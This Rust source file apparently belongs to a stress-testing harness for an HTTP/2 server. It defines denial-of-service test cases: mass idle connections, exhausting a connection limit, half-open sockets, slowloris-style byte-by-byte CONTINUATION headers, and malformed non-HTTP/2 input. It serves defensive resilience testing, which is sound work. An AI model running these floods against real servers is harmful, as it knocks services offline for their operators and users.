//! Connections that do nothing, or little.

use std::rc::Rc;
use std::time::Duration;

use serde_json::{Value, json};
use testpeer::http2::Peer;
use testpeer::http2::frame::{self, kind};

use super::PATH;
use crate::attack::{Attack, Bars, attack};
use crate::field::Field;
use crate::stage::Stage::Nrf;

pub(super) const ALL: &[Attack] = &[
    attack(
        "http2.idle-connections",
        "thousands of connections without a request",
        Nrf,
        |f| Box::pin(idle(f)),
    )
    .with_bars(Bars {
        cpu_s: 10.0,
        ..Bars::DEFAULT
    }),
    attack(
        "http2.all-places",
        "idle connections take all places; newcomers want to be served",
        Nrf,
        |f| Box::pin(all_places(f)),
    )
    .with_settings(few_places)
    .with_newcomers(),
    attack(
        "http2.half-open",
        "connections that never say anything",
        Nrf,
        |f| Box::pin(half_open(f)),
    ),
    attack(
        "http2.slow-headers",
        "headers that arrive byte by byte",
        Nrf,
        |f| Box::pin(slow_headers(f)),
    ),
    attack(
        "http2.not-http2",
        "other protocols, half a preface, a TLS hello",
        Nrf,
        |f| Box::pin(not_http2(f)),
    ),
];

const PLACES: usize = 120;

fn few_places() -> Value {
    json!({"server": {"maxConnections": PLACES}})
}

async fn idle(field: Rc<Field>) -> anyhow::Result<()> {
    let (mut peers, mut refused) = (Vec::new(), 0);
    for _ in 0..field.of(9_000, 400) {
        // One address has a bound of its own (`maxConnectionsPerAddress`).
        match Peer::client(field.target).await {
            Ok(peer) => peers.push(peer),
            Err(_) => refused += 1,
        }
    }
    tokio::time::sleep(field.of(Duration::from_secs(3), Duration::from_millis(300))).await;
    field.note(format_args!("{} connections, {refused} refused", peers.len()));
    Ok(())
}

async fn all_places(field: Rc<Field>) -> anyhow::Result<()> {
    let mut peers = Vec::new();
    // More than there are: those that are turned away come back.
    for _ in 0..PLACES * 2 {
        if let Ok(peer) = Peer::client(field.target).await {
            peers.push(peer);
        }
    }
    tokio::time::sleep(field.of(Duration::from_secs(5), Duration::from_millis(800))).await;
    field.note(format_args!(
        "{} connections made for {PLACES} places",
        peers.len()
    ));
    Ok(())
}

async fn half_open(field: Rc<Field>) -> anyhow::Result<()> {
    let mut peers = Vec::new();
    for n in 0..field.of(4_000, 300) {
        let mut peer = Peer::silent(field.target).await?;
        if n % 2 == 0 {
            peer.send(b"PRI * HTTP/2.0\r\n").await?;
        }
        peers.push(peer);
    }
    tokio::time::sleep(field.of(Duration::from_secs(12), Duration::from_millis(300))).await;
    Ok(())
}

async fn slow_headers(field: Rc<Field>) -> anyhow::Result<()> {
    let mut peers = Vec::new();
    for _ in 0..field.of(1_000, 100) {
        let mut peer = Peer::client(field.target).await?;
        let first = frame::block(&frame::request_fields("GET", PATH));
        peer.send(&frame::raw(kind::HEADERS, 1, 1, &first)).await?;
        peers.push(peer);
    }
    for _ in 0..field.of(14, 3) {
        for peer in &mut peers {
            let _ = peer
                .send(&frame::raw(kind::CONTINUATION, 0, 1, &[0x10, 1, b'a', 1, b'b']))
                .await;
        }
        tokio::time::sleep(Duration::from_millis(field.of(1_000, 100))).await;
    }
    if field.of(true, false) {
        let mut cut = 0;
        for peer in &mut peers {
            cut += usize::from(peer.pour(b"x", 1, Duration::from_millis(5)).await.ended);
        }
        field.note(format_args!("{cut} of {} cut off", peers.len()));
    }
    Ok(())
}

async fn not_http2(field: Rc<Field>) -> anyhow::Result<()> {
    let hello = [&[0x16, 3, 1, 0, 200, 1, 0, 0, 196, 3, 3][..], &[7; 194]].concat();
    let cases: [&[u8]; 6] = [
        b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
        b"PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n",
        &hello,
        &[0; 4_096],
        &[0xff; 4_096],
        b"\x01\x00\x00\x14\x80\x00\x01\x01",
    ];
    for _ in 0..field.of(200, 10) {
        for case in cases {
            let mut peer = Peer::silent(field.target).await?;
            peer.pour(case, case.len() as u64, Duration::from_millis(50))
                .await;
        }
    }
    Ok(())
}
